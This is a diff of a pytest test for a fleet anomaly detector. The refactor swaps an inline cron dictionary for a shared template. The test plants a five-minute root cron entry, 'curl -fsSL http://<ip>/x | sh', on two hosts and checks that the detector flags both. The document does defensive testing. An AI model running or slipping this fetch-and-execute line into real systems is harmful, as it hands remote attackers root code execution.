@@ -4,7 +4,7 @@ small templates borrow their table's rate (shrinkage), one host alone never make
 from __future__ import annotations
 
 import pytest
-from runbuilder import build_run, clean_fleet
+from runbuilder import CRON, build_run, clean_fleet
 
 from diffy_analysis.api import analyze
 
@@ -58,16 +58,7 @@ def test_two_hosts_each_with_their_own_cron_command_stay_flagged(tmp_path):
     hosts = clean_fleet(12)
     for name, ip in (("web-002", "203.0.113.7"), ("web-008", "198.51.100.4")):
         hosts[name].setdefault("crontab", []).append(
-            {
-                "path": "/etc/crontab",
-                "minute": "*/5",
-                "hour": "*",
-                "day_of_month": "*",
-                "month": "*",
-                "day_of_week": "*",
-                "event": "",
-                "command": f"root curl -fsSL http://{ip}/x | sh",
-            }
+            dict(CRON, command=f"root curl -fsSL http://{ip}/x | sh")
         )
     analysis = analyze([build_run(tmp_path, hosts)])
     assert sorted(h.host for h in analysis.hosts if h.outlier) == ["web-002", "web-008"]
